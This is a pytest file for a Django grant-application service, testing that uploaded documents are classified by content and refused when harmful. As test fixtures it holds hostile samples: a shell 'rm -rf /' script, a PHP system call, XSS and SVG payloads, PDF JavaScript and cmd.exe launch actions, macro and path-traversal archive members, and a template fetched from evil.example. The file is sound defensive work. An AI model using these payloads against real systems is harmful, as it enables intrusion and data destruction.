"""Files that applicants send: judged by content, refused where they could do harm."""

import io
import random
import zlib
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pypdf import PdfWriter

from uzina.calls import actions, queries
from uzina.calls.models import Document
from uzina.calls.models.applications import documents_storage
from uzina.calls.rules import documents
from uzina.calls.tests.conftest import make_call
from uzina.calls.tests.files import docx, odt, packed, pdf
from uzina.core import promises, uploads
from uzina.core.errors import Invalid, NotAllowed, Refused
from uzina.core.models import LogEntry, Promise
from uzina.core.tests import NOW

BASE = "/api/v1/calls"
EVERY = ("pdf", "text", "csv", "docx", "odt")
TABLE = b"name,hours\nA,1\nB,2\n"
TEXT = "O pagină despre noi. Ș și ț.\n".encode()


def kind(content, kinds=EVERY):
    return documents.kind_of(io.BytesIO(content), kinds)


def refusal(content, kinds=EVERY):
    with pytest.raises(Refused) as refused:
        kind(content, kinds)
    assert str(refused.value)
    return refused.value.code.removeprefix("document.attach.")


# --- what a file is ---


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (pdf(), "pdf"),
        (docx(), "docx"),
        (odt(), "odt"),
        (TEXT, "text"),
        (TABLE, "csv"),
        (b"\xef\xbb\xbfa;b\n1;2\n3;4\n", "csv"),
        (b"one line", "text"),
    ],
)
def test_a_file_is_what_its_content_says(content, expected):
    assert kind(content) == expected


@pytest.mark.parametrize(
    "content",
    [
        b"\x7fELF\x02\x01\x01",
        b"MZ\x90\x00",
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a\x01\x00\x01\x00",
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"\xef\xbb\xbf  <html>",
        b"<svg onload=alert(1)>",
        b"#!/bin/sh\nrm -rf /",
        b"<?php system('id');",
        b"a\x00b",
        "Ș".encode("utf-16"),
        b"\xff\xfe\xfa",
        packed({"a.txt": "x"}),
        packed({"mimetype": "application/zip", "content.xml": ""}),
        packed({"[Content_Types].xml": "", "xl/workbook.xml": ""}),
        b"PK\x03\x04 and then nothing that is a zip",
    ],
)
def test_what_is_none_of_the_kinds_is_refused(content):
    assert refusal(content) == "type"


def test_a_good_file_of_a_kind_that_is_not_asked_is_refused_with_those_that_are():
    with pytest.raises(Refused, match="PDF"):
        kind(TEXT, ("pdf",))
    assert refusal(pdf(), ("docx", "odt")) == "type"
    assert kind(TABLE, ("text",)) == "text"


# --- PDF ---

HARM = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@pytest.mark.parametrize(
    "content",
    [
        pdf(catalog=f"/OpenAction {HARM}"),
        pdf(HARM, catalog="/OpenAction 4 0 R"),
        pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"),
        pdf(catalog="/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
        pdf("<< /S /#4aS (x) /J#53 (x) >>"),
        pdf(catalog="/Names << /EmbeddedFiles << /Names [] >> >>"),
        pdf("<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
        pdf(page="/AA << /O 4 0 R >>"),
        pdf(catalog="/AcroForm << /XFA [] >>"),
        pdf("<< /Type /Annot /Subtype /Link /A << /S /SubmitForm /F (http://x.example) >> >>"),
        pdf("[[<< /S /RichMedia >>]]"),
        pdf() + b"\n9 0 obj << /S /JavaScript >> endobj\n",
    ],
)
def test_a_pdf_that_runs_sends_or_carries_something_is_refused(content):
    assert refusal(content) == "harmful"


def test_harm_in_a_compressed_stream_of_objects_is_found():
    inner = b"5 0 << /S /JS >>"
    inner = b"5 0 << /S /GoTo /JS (x) >>"
    packed_objects = zlib.compress(inner)
    stream = (
        (
            f"<< /Type /ObjStm /N 1 /First 4 /Length {len(packed_objects)} /Filter /FlateDecode >>\n"
            "stream\n"
        ).encode()
        + packed_objects
        + b"\nendstream"
    )
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        stream,
    ]
    made, rows = b"%PDF-1.7\n", [b"\x00\x00\x00\xff"]
    for number, body in enumerate(bodies, start=1):
        rows.append(b"\x01" + len(made).to_bytes(2, "big") + b"\x00")
        made += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    rows.append(b"\x02" + (4).to_bytes(2, "big") + b"\x00")
    start = len(made)
    rows.append(b"\x01" + start.to_bytes(2, "big") + b"\x00")
    table = zlib.compress(b"".join(rows))
    made += (
        (
            f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length {len(table)} "
            "/Filter /FlateDecode >>\nstream\n"
        ).encode()
        + table
        + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()
    )
    assert b"/JS" not in made

    assert refusal(made) == "harmful"


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", b"%PDF-1.7\nrubbish" * 50, pdf()[:200]])
def test_a_damaged_pdf_is_refused_not_crashed_on(content):
    assert refusal(content) == "unreadable"


def test_a_pdf_locked_by_a_password_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="RC4-128")
    file = io.BytesIO()
    writer.write(file)

    assert refusal(file.getvalue()) == "unreadable"


def test_a_pdf_with_links_and_random_pictures_is_taken():
    noise = random.Random(7).randbytes(400_000).decode("latin-1")
    link = "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>"
    picture = f"<< /Type /XObject /Length {len(noise)} >>\nstream\n{noise}\nendstream"

    assert kind(pdf(link, picture, page="/Annots [4 0 R]")) == "pdf"


# --- docx and odt ---


def test_a_bomb_is_refused_long_before_it_is_unpacked():
    assert refusal(docx(**{"word/media/zeros.bin": b"\x00" * 150_000_000})) == "bomb"
    assert refusal(odt(**{"Pictures/zeros.png": b"\x00" * 30_000_000})) == "bomb"


def test_too_many_members_are_refused(monkeypatch):
    monkeypatch.setattr(documents, "MOST_MEMBERS", 50)
    assert kind(docx(**{f"word/media/{n}.png": "x" for n in range(40)})) == "docx"
    assert refusal(docx(**{f"word/media/{n}.png": "x" for n in range(49)})) == "bomb"


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "Basic/Standard/Module1.xml",
        "Scripts/python/x.py",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/media/setup.EXE",
        "../../etc/cron.d/x",
        "/etc/passwd",
        "..\\x",
        "C:/x",
    ],
)
def test_a_document_with_macros_programs_or_paths_is_refused(name):
    assert refusal(docx(**{name: "x"})) == "harmful"


def test_a_template_fetched_from_elsewhere_is_refused():
    rels = (
        '<Relationships><Relationship Type="http://x/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert refusal(docx(**{"word/_rels/settings.xml.rels": rels})) == "harmful"


def test_an_archive_that_lies_about_its_sizes_is_refused():
    honest = docx(**{"word/media/a.txt": "a" * 10_000})
    size = (10_000).to_bytes(4, "little")
    assert honest.count(size) == 2

    assert refusal(honest.replace(size, (100).to_bytes(4, "little"))) == "unreadable"


# --- names and sizes ---


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("plan.pdf", "plan.pdf"),
        ("PLAN.PDF", "PLAN.pdf"),
        ("C:\\Users\\ana\\plan.pdf", "plan.pdf"),
        ("../../../etc/passwd", "passwd.pdf"),
        ("plan.exe", "plan.exe.pdf"),
        ("  .plan. ", "plan.pdf"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
        ("S\u0326i.pdf", "Și.pdf"),
    ],
)
def test_a_name_is_shown_without_its_path_and_with_the_right_ending(sent, shown):
    assert documents.clean_name(sent, "pdf") == shown


@pytest.mark.parametrize(
    "sent",
    ["", "..", "/", "plan\x00.pdf", "plan\r\nSet-Cookie: x", "fdp\u202e.exe", "a\u200bb.pdf"],
)
def test_a_name_that_misleads_is_refused(sent):
    with pytest.raises(Refused) as refused:
        documents.clean_name(sent, "pdf")
    assert refused.value.code == "document.attach.name"


def test_a_file_at_the_limit_is_taken_and_one_byte_more_is_not():
    documents.check_size(2 * documents.MIB, 2)
    for size, code in ((2 * documents.MIB + 1, "too_large"), (0, "empty")):
        with pytest.raises(Refused) as refused:
            documents.check_size(size, 2)
        assert refused.value.code == f"document.attach.{code}"


def test_reading_stops_at_the_limit():
    read = []

    def endless():
        while True:
            read.append(1)
            yield b"x" * 65_536

    with (
        pytest.raises(Refused, match="1 MiB"),
        actions.received(endless(), most_mib=1),
    ):
        pytest.fail("nothing is given")
    assert len(read) == 17


# --- with an application ---


@pytest.fixture
def asking(operator):
    """A call that asks for a plan, and perhaps a table."""
    call = make_call(operator, opens_at=NOW - timedelta(days=300))
    call.rules["documents"] = [
        {
            "slug": "plan",
            "title": {"en": "Project scope and plan", "ro": "Scopul și planul proiectului"},
            "is_required": True,
            "types": ["pdf", "docx", "odt"],
            "most_mib": 1,
        },
        {
            "slug": "figures",
            "title": {"en": "Scaling figures", "ro": "Cifre de scalare"},
            "is_required": False,
            "types": ["csv", "text"],
            "most_mib": 1,
        },
    ]
    call.rules["sources"]["documents"] = "A test"
    call.save()
    return type(call).objects.get(pk=call.pk)


@pytest.fixture
def filled(asking, org, ana):
    from uzina.calls.tests.conftest import fill

    application = actions.start(asking, organisation=org, by=ana, now=NOW)
    fill(application, by=ana)
    return application


def attach(application, by, *, slug="plan", name="plan.pdf", content=None):
    return actions.attach(
        application,
        slug=slug,
        name=name,
        file=io.BytesIO(pdf() if content is None else content),
        by=by,
        now=NOW,
    )


def test_an_application_without_a_required_document_is_not_taken(filled, ana):
    with pytest.raises(Invalid) as invalid:
        actions.submit(filled, by=ana, now=NOW)
    assert [one.field for one in invalid.value.problems] == ["documents.plan"]

    attach(filled, ana)
    assert actions.submit(filled, by=ana, now=NOW).submitted_at == NOW


def test_a_new_file_takes_the_place_of_the_old_whose_bytes_are_deleted(filled, ana):
    first = attach(filled, ana)
    second = attach(filled, ana, name="new.pdf", content=pdf(page="/Rotate 90"))

    assert list(queries.attached(filled)) == [second]
    assert documents_storage().exists(first.file.name)
    from uzina.calls import tasks

    for _twice in range(2):
        tasks.delete_file(document=first.code, now=NOW)
    assert not documents_storage().exists(first.file.name)
    assert documents_storage().exists(second.file.name)
    assert LogEntry.objects.filter(event="document.removed").count() == 1


def test_a_file_lies_under_a_random_name(filled, ana):
    kept = attach(filled, ana, name="../../../secret plan.pdf")

    assert kept.name == "secret plan.pdf"
    assert "plan" not in kept.file.name
    assert len(kept.file.name) == 40
    assert (kept.size, kept.media_type) == (len(pdf()), "application/pdf")


def test_the_same_file_again_is_told(filled, ana):
    attach(filled, ana)
    with pytest.raises(Refused, match="as “plan.pdf”") as refused:
        attach(filled, ana, name="other.pdf")
    assert refused.value.code == "document.attach.duplicate"


@pytest.mark.parametrize(
    ("slug", "content", "code"),
    [
        ("poem", pdf(), "not_asked"),
        ("plan", TEXT, "type"),
        ("plan", b"", "empty"),
        ("plan", pdf() + b" " * documents.MIB, "too_large"),
        ("plan", pdf(HARM), "harmful"),
    ],
)
def test_a_refused_file_leaves_no_trace(filled, ana, slug, content, code):
    before = LogEntry.objects.count()
    with pytest.raises(Refused) as refused:
        attach(filled, ana, slug=slug, content=content)

    assert refused.value.code == f"document.attach.{code}"
    assert (Document.objects.count(), LogEntry.objects.count()) == (0, before)
    assert not files_kept()


def files_kept():
    storage = documents_storage()
    return storage.listdir("")[1] if storage.exists("") else []


def test_when_the_row_cannot_be_written_the_file_is_not_kept(filled, ana, monkeypatch):
    def broken(*_args, **_more):
        raise RuntimeError

    monkeypatch.setattr("uzina.calls.actions.documents.log", broken)
    with pytest.raises(RuntimeError):
        attach(filled, ana)
    assert not files_kept()
    assert not Document.objects.exists()


def test_strangers_and_submitted_applications_get_no_files(filled, ana, stranger):
    with pytest.raises(NotAllowed):
        attach(filled, stranger)
    kept = attach(filled, ana)
    with pytest.raises(NotAllowed):
        actions.detach(kept, by=stranger, now=NOW)
    actions.submit(filled, by=ana, now=NOW)
    for verb in (
        lambda: attach(filled, ana, content=pdf(page="/Rotate 90")),
        lambda: actions.detach(kept, by=ana, now=NOW),
    ):
        with pytest.raises(Refused) as refused:
            verb()
        assert refused.value.code == "application.save.not_now"


def test_over_the_api_a_file_goes_in_and_out_as_it_was(filled, ana, stranger, operator, api):
    startup = api(ana)
    address = f"{BASE}/applications/{filled.code}/documents"
    sent = startup.put(
        f"{address}/plan?name=plan.pdf", pdf(), content_type="application/octet-stream"
    )
    assert sent.status_code == 201, sent.content
    code = sent.json()["code"]
    (plan, figures) = startup.get(address).json()
    assert (plan["document"]["code"], plan["is_required"]) == (code, True)
    assert figures["document"] is None

    content = f"{BASE}/documents/{code}/content"
    given = startup.get(content)
    assert b"".join(given.streaming_content) == pdf()
    assert given["Content-Type"] == "application/octet-stream"
    assert given["Content-Disposition"] == 'attachment; filename="plan.pdf"'
    assert given["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in given["Content-Security-Policy"]
    part = startup.get(content, headers={"Range": "bytes=0-3"})
    assert (part.status_code, b"".join(part.streaming_content)) == (206, b"%PDF")
    for other in (stranger, operator):
        assert api(other).get(content).status_code == 404
        assert api(other).delete(f"{BASE}/documents/{code}").status_code == 404
    assert api().get(content).status_code == 401
    assert startup.delete(f"{BASE}/documents/{code}").status_code == 204
    assert startup.get(content).status_code == 404


def test_over_the_api_more_than_the_limit_is_refused(filled, ana, api):
    sent = api(ana).put(
        f"{BASE}/applications/{filled.code}/documents/plan?name=plan.pdf",
        pdf() + b" " * documents.MIB,
        content_type="application/octet-stream",
    )
    assert (sent.status_code, sent.json()["code"]) == (409, "document.attach.too_large")


def test_on_the_page_a_file_is_sent_refused_told_and_taken_out(filled, ana):
    browser = Client()
    browser.force_login(ana)
    address = f"/applications/{filled.code}/documents/"
    assert "Project scope and plan" in browser.get(address).content.decode()

    refused = browser.post(
        address, {"slug": "plan", "file": SimpleUploadedFile("plan.pdf", TEXT, "application/pdf")}
    )
    assert refused.status_code == 422
    assert "Send one of: PDF, Word" in refused.content.decode()
    assert browser.post(address, {"slug": "plan"}).status_code == 422
    hostile = "<img src=x onerror=alert(1)>.pdf"
    sent = browser.post(
        address, {"slug": "plan", "file": SimpleUploadedFile(hostile, pdf())}, follow=True
    )
    text = sent.content.decode()
    assert "&lt;img src=x" in text
    assert "<img src=x" not in text
    kept = Document.objects.get()
    given = browser.get(f"/documents/{kept.code}/")
    assert given["Content-Disposition"].startswith("attachment")
    assert b"".join(given.streaming_content) == pdf()
    gone = browser.post(f"/documents/{kept.code}/remove/", follow=True)
    assert "The file is taken out." in gone.content.decode()


def test_the_worker_knows_how_to_delete_a_file(filled, ana):
    kept = attach(filled, ana)
    actions.detach(kept, by=ana, now=NOW)
    actions.detach(Document.objects.get(), by=ana, now=NOW)

    (promised,) = Promise.objects.filter(task="calls.delete_file")
    promises.find_task(promised.task)(now=NOW, **promised.args)
    assert not files_kept()


def test_a_form_that_is_too_large_is_refused_before_it_is_kept(filled, ana, monkeypatch):
    monkeypatch.setattr(uploads, "MOST", 1000)
    browser = Client()
    browser.force_login(ana)
    address = f"/applications/{filled.code}/documents/"
    small = {"slug": "plan", "file": SimpleUploadedFile("plan.pdf", b"x" * 300)}
    large = {"slug": "plan", "file": SimpleUploadedFile("plan.pdf", b"x" * 1001)}

    assert browser.post(address, small).status_code == 422
    assert browser.post(address, large).status_code == 400
